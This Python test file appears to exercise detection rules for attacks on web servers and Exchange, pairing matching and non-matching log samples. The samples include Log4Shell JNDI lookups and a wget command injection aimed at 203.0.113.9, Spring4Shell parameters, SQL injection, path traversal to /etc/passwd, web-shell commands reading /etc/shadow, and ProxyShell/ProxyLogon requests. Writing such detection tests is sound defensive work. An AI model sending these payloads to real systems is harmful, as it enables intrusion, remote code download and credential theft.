"""Web servers and Exchange."""

from tests.shipped_rules.lines import created, eve, iis, run, sysmon, web

ASPNET = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\x\a.aspx"
OWA = r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\tin.aspx"
W3WP = r"C:\Windows\System32\inetsrv\w3wp.exe"
CMD = r"C:\Windows\System32\cmd.exe"


def wrote(path: str, image: str = W3WP, s: float = 0) -> str:
    """A file was created, by Sysmon."""
    return sysmon(11, s=s, Image=image, TargetFilename=path)


def http(url: str, **more: object) -> str:
    """A request that Suricata saw."""
    said = {"hostname": "www.coquan.example", "url": url, "http_method": "GET", "status": 200, **more}
    return eve("http", http=said)


WEB: dict[str, tuple[list[list[str]], list[list[str]]]] = {
    "Spring4Shell attempt in a web request": (
        [
            [web("/tin?class.module.classLoader.resources.context.parent.pipeline.first.prefix=tep", method="POST")],
            [web("/tin?class%2Emodule%2EclassLoader%2Eurls%5B0%5D=0")],
            iis("/tin", "class.module.classLoader.URLs[0]=0"),
            [http("/tin?class.module.classLoader.DefaultAssertionStatus=true")],
        ],
        [[web("/tin?class=module&loader=classLoader")], iis("/lop/class.module", "ten=classLoader")],
    ),
    "Web shell of Spring4Shell is used": (
        [[web("/tep.jsp?pwd=j&cmd=whoami")], [web("/tomcatwar.jsp")]],
        [[web("/tep.jsp?pwd=j&cmd=whoami", status=404)], [web("/tomcatwar.jsp", status=404)], [web("/tep.jsp?pwd=j")]],
    ),
    "Spring Cloud Function routing is asked from outside": (
        [[web("/functionRouter", method="POST", status=500)], [http("/functionRouter", http_method="POST")]],
        [[web("/functionRouter")], [web("/functionRouter/huong-dan", method="POST")]],
    ),
    "Log4Shell attempt in a web request": (
        [
            [web("/", agent="${jndi:ldap://203.0.113.9/a}")],
            [web("/?q=$%7Bjndi:dns://x.example%7D")],
            [web("/", referer="${${lower:j}ndi:ldap://203.0.113.9/a}")],
            iis("/owa/", "q=%24%7Bjndi:ldap://x.example/a%7D"),
        ],
        [[web("/?q=jndi:ldap")], [web("/", agent="Mozilla/5.0 {jndi}")]],
    ),
    "Known attack patterns in a web request": (
        [
            [web("/tin.php?id=1+UNION+SELECT+1,2,3--")],
            [web("/tai.php?tep=../../../../etc/passwd", status=400)],
            [web("/cgi?host=1;wget+http://203.0.113.9/a")],
        ],
        [[web("/tin.php?id=1&chu-de=select-union-cong-doan")], [web("/tai.php?tep=../anh.png")]],
    ),
    "Web site is examined by an attack tool": (
        [[web("/", agent="sqlmap/1.7#stable (https://sqlmap.org)")]],
        [[web("/", agent="Mozilla/5.0 (compatible; TimKiem/1.0)")]],
    ),
    "Page that is not there": ([[web("/khong-co", status=404)]], [[web("/co")]]),
    "One address asks for many pages that are not there": (
        [[web(f"/duong/{n}", status=404, s=n) for n in range(40)]],
        [
            [web(f"/duong/{n}", status=404, s=n) for n in range(39)],
            [web("/cu.html", status=404, s=n) for n in range(60)],
            [web(f"/duong/{n}", status=404, s=n * 10) for n in range(45)],
            [web(f"/duong/{n}", status=404, s=n, ip=f"203.0.113.{n}") for n in range(60)],
        ],
    ),
    "Server turns a request away because it has too much to do": (
        [[web("/", status=503)], [web("/", status=429)]],
        [[web("/", status=500)]],
    ),
    "One address floods a web server": (
        [[web("/", status=503, s=n / 6) for n in range(300)]],
        [[web("/", s=n / 6) for n in range(300)], [web("/", status=503, s=n / 4) for n in range(300)]],
    ),
    "File with secrets was handed out by a web server": (
        [[web("/.env")], [web("/quan-tri/actuator/heapdump")], [web("/.git/config?x=1")]],
        [[web("/.env", status=404)], [web("/tin/moi.env")]],
    ),
    "Script in a folder for uploads answers": (
        [[web("/uploads/2026/anh.php", method="POST")], iis("/userfiles/tep.aspx", method="POST")],
        [
            [web("/uploads/2026/anh.php")],
            [web("/uploads/2026/anh.php", method="POST", status=403)],
            [web("/uploads/2026/anh.png", method="POST")],
            [web("/gui/tin.php", method="POST")],
        ],
    ),
    "Commands of a web shell in a request": (
        [
            [web("/anh/x.php?cmd=whoami")],
            [web("/x.jsp?a=1&exec=cat%20/etc/shadow")],
            [web("/x.php?c=id")],
            iis("/x.aspx", "cmd=ipconfig+/all"),
        ],
        [[web("/x.php?cmd=whoami", status=404)], [web("/x.php?cmd=idea")], [web("/x.php?command=list")]],
    ),
    "Sign-in is sent to a web application": (
        [[web("/wp-login.php", method="POST")], [web("/kho", status=401, user="an")]],
        [[web("/wp-login.php")], [web("/kho", status=401)]],
    ),
    "Passwords of a web application or VPN portal are guessed": (
        [[web("/wp-login.php", method="POST", s=n * 9) for n in range(30)]],
        [
            [web("/wp-login.php", method="POST", s=n * 9) for n in range(29)],
            [web("/wp-login.php", method="POST", s=n * 11) for n in range(30)],
            [web("/wp-login.php", s=n) for n in range(30)],
        ],
    ),
    "Exchange: Autodiscover leads to another service (ProxyShell, ProxyNotShell)": (
        [
            iis(
                "/autodiscover/autodiscover.json",
                "a@x.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@x.example",
            ),
            iis("/autodiscover/autodiscover.json", "@x.example/PowerShell/?X-Rps-CAT=VgEA", user="an"),
        ],
        [
            iis("/autodiscover/autodiscover.json", "Email=an%40coquan.example&Protocol=Autodiscoverv1"),
            iis("/powershell", "serializationLevel=Full;@"),
        ],
    ),
    "Exchange: a request passes through as the server itself (ProxyLogon)": (
        [
            iis("/ecp/y.js", method="POST"),
            iis("/ecp/default.flt", cookie="X-BEResource=localhost/owa/auth/x.js;+X-AnonResource=true"),
        ],
        [iis("/ecp/y.js"), iis("/tin/y.js", method="POST"), iis("/ecp/default.aspx", cookie="X-BackEndCookie=a")],
    ),
    "Exchange: unknown page below OWA or aspnet_client answers": (
        [iis("/aspnet_client/tin.aspx"), iis("/owa/auth/moi.aspx", method="POST")],
        [iis("/owa/auth/logon.aspx"), iis("/aspnet_client/tin.aspx", status=404), iis("/owa/auth/15.1/nen.png")],
    ),
    "Web server or database starts a command shell (Windows)": (
        [
            [run("cmd /c whoami", CMD, ParentImage=W3WP)],
            [created("powershell -c dir", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", W3WP)],
            [run("net user", r"C:\Windows\System32\net.exe", ParentImage=r"C:\MSSQL\Binn\sqlservr.exe")],
        ],
        [
            [run("cmd /c whoami", CMD)],
            [run("csc /noconfig", r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe", ParentImage=W3WP)],
            [created("cmd /c dir", CMD, r"C:\Windows\explorer.exe")],
        ],
    ),
    "Web server writes a script (Windows)": (
        [[wrote(OWA)], [wrote(r"C:\web\webapps\ROOT\tomcatwar.jsp", r"C:\web\bin\tomcat9.exe")]],
        [[wrote(ASPNET)], [wrote(r"C:\inetpub\logs\a.log")], [wrote(OWA, r"C:\Windows\System32\msiexec.exe")]],
    ),
    "Script written by a web server, then a command shell": (
        [[wrote(OWA), run("cmd /c whoami", CMD, ParentImage=W3WP, s=3600)]],
        [
            [run("cmd /c whoami", CMD, ParentImage=W3WP), wrote(OWA, s=3600)],
            [wrote(OWA), run("cmd /c whoami", CMD, ParentImage=W3WP, s=90_000)],
            [wrote(OWA), run("cmd /c whoami", CMD, ParentImage=W3WP, s=60, computer="MAY2.noibo.example")],
        ],
    ),
}
